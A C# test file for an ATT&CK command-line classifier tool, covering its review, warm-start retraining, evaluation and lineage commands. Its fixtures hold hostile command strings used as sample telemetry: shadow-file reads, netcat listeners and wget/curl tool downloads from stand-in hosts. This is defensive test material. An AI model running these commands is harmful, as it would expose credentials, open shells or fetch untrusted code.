using System.Text.Json;

namespace AttackClassifier.Tests.Cli;

/// <summary>The analyst loop through the CLI: review → fill in → train --warm-start → evaluate --baseline → info.</summary>
public class ReviewCommandTests
{
    private static string TempFile(string extension) => Path.Combine(Path.GetTempPath(), $"ac-{Guid.NewGuid():N}{extension}");

    // A small training file (fast to fit) with three classes; T1105 is not among them.
    private static string SmallTrainingFile()
    {
        string path = TempFile(".csv");
        File.WriteAllText(path, """
            proctitle,technique,technique_grouped,count
            uname -a,,T1082: System Information Discovery,5
            uname -r,,T1082: System Information Discovery,3
            cat /etc/os-release,,T1082: System Information Discovery,2
            hostnamectl,,T1082: System Information Discovery,1
            cat /etc/shadow,,T1003: OS Credential Dumping,2
            grep root /etc/shadow,,T1003: OS Credential Dumping,1
            unshadow /etc/passwd /etc/shadow,,T1003: OS Credential Dumping,1
            ls -la,,Normal,9
            cd /var/log,,Normal,4
            vim notes.txt,,Normal,3

            """);
        return path;
    }

    [Fact]
    public void Review_then_warm_start_then_evaluate_side_by_side_and_info_shows_the_lineage()
    {
        string parent = TempFile(".acm"), child = TempFile(".acm"), telemetry = TempFile(".txt"), queue = TempFile(".csv"), filled = TempFile(".csv"), old = SmallTrainingFile();
        try
        {
            var train = CliRunner.Run("train", "--train", old, "--out", parent);
            Assert.True(train.ExitCode == 0, train.Error);
            File.WriteAllText(telemetry, "nc -lvp 4444\nnc -lvp 5555\nwget http://10.0.0.1/x.sh\nwget http://10.0.0.2/x.sh\nuname -a\ncat /etc/shadow\n\n");
            var review = CliRunner.Run("review", "--model", parent, "--input", telemetry, "--budget", "3", "--strategy", "least-confident", "--out", queue);
            Assert.True(review.ExitCode == 0, review.Error);
            Assert.Contains("7 input records (1 without a command)", review.Output, StringComparison.Ordinal);
            string[] lines = File.ReadAllLines(queue);
            Assert.Equal("proctitle,technique,technique_grouped,count,predicted,probability,top3,occurrences,normalized", lines[0]);
            Assert.Equal(4, lines.Length);   // header + budget 3
            Assert.Contains(lines, l => l.StartsWith("nc -lvp 4444,,,2,", StringComparison.Ordinal) || l.StartsWith("wget http://10.0.0.1/x.sh,,,2,", StringComparison.Ordinal));

            // The analyst labels every row with a new class, and adds a row for a command that was never in the queue.
            File.WriteAllLines(filled, [lines[0], .. lines.Skip(1).Select(l => l.Replace(",,,", ",,T1105: Ingress Tool Transfer,", StringComparison.Ordinal)),
                                        "curl -O http://host/tool,,T1105: Ingress Tool Transfer,1,,,,,"]);
            var warm = CliRunner.Run("train", "--warm-start", parent, "--data", filled, "--replay", old, "--out", child, "--json");
            Assert.True(warm.ExitCode == 0, warm.Error);
            using (var json = JsonDocument.Parse(warm.Output))
            {
                Assert.Equal(4, json.RootElement.GetProperty("rows_added").GetInt32());
                Assert.Equal("T1105: Ingress Tool Transfer", json.RootElement.GetProperty("new_classes")[0].GetString());
            }

            var compare = CliRunner.Run("evaluate", "--model", child, "--baseline", parent, "--data", filled, "--json");
            Assert.True(compare.ExitCode == 0, compare.Error);
            using (var json = JsonDocument.Parse(compare.Output))
            {
                Assert.Equal(0.0, json.RootElement.GetProperty("baseline").GetProperty("weighted_accuracy").GetDouble());   // the parent lacks the class
                Assert.True(json.RootElement.GetProperty("model").GetProperty("weighted_accuracy").GetDouble() > 0.5);
            }
            Assert.Contains("macro F1", CliRunner.Run("evaluate", "--model", child, "--baseline", parent, "--data", filled).Output, StringComparison.Ordinal);

            var parentInfo = CliRunner.Run("info", "--model", parent, "--json");
            string parentSha = JsonDocument.Parse(parentInfo.Output).RootElement.GetProperty("sha256").GetString()!;
            using (var info = JsonDocument.Parse(CliRunner.Run("info", "--model", child, "--json").Output))
            {
                JsonElement step = info.RootElement.GetProperty("metadata").GetProperty("lineage").EnumerateArray().Single();
                Assert.Equal(parentSha, step.GetProperty("parent_sha256").GetString());
                Assert.Equal(4, step.GetProperty("rows_added").GetInt32());
                Assert.True(step.GetProperty("replay_rows").GetInt32() > 0);
            }
            Assert.Contains($"from {parentSha}: +4 rows", CliRunner.Run("info", "--model", child).Output, StringComparison.Ordinal);
        }
        finally
        {
            foreach (string f in new[] { parent, child, telemetry, queue, filled, old }) File.Delete(f);
        }
    }

    [Fact]
    public void Bad_input_exits_2_with_file_line_and_field()
    {
        string parent = TempFile(".acm"), labelled = TempFile(".csv"), out_ = TempFile(".acm"), old = SmallTrainingFile();
        try
        {
            Assert.Equal(0, CliRunner.Run("train", "--train", old, "--out", parent).ExitCode);
            var empty = CliRunner.RunWithInput("whoami\n", "review", "--model", parent, "--budget", "0", "--out", TempFile(".csv"));
            Assert.Equal(2, empty.ExitCode);
            Assert.Contains("--budget must be at least 1", empty.Error, StringComparison.Ordinal);

            File.WriteAllText(labelled, "proctitle,technique_grouped,count\nuname -a,T1082,1\n");
            var schema = CliRunner.Run("train", "--warm-start", parent, "--data", labelled, "--out", out_);
            Assert.Equal(2, schema.ExitCode);
            Assert.StartsWith($"error: {labelled}:2: field 'technique_grouped': 'T1082' names the model's class 'T1082: System Information Discovery' in other words", schema.Error, StringComparison.Ordinal);

            File.WriteAllText(labelled, "proctitle,technique_grouped,count,analyst\nuname -a,T1082: System Information Discovery,1,bob\n");
            var column = CliRunner.Run("train", "--warm-start", parent, "--data", labelled, "--out", out_);
            Assert.Equal(2, column.ExitCode);
            Assert.StartsWith($"error: {labelled}:1: field 'analyst': unknown column", column.Error, StringComparison.Ordinal);
            Assert.False(File.Exists(out_));
        }
        finally
        {
            foreach (string f in new[] { parent, labelled, out_, old }) File.Delete(f);
        }
    }
}
